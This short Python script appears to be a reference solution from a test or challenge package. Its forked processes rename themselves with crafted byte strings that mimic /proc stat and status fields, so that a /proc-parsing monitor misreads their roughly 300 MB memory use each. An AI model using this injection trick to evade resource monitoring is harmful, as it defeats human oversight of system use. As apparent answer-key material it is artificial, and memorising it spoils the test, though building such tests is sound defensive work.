"""Processes are named like the numbers that `/proc` tells of them, to hide what they use."""
# solves = []
# keeps = []
# stopped = ["memory"]

# %% words-solution
import ctypes
import os
import time

NAMES = (b") Z 0 0 0 0 0", b"\nVmPTE:\t0 kB\n", b"\nVmSwap:", b"a) X (b\n", b"\xff\xfe) Z")
for name in NAMES:
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, name, 0, 0, 0)
        taken = bytearray(b"x" * (300 * 2**20))
        time.sleep(600)
time.sleep(2)
print(__BREACH__, "holds more memory than it may")
time.sleep(600)
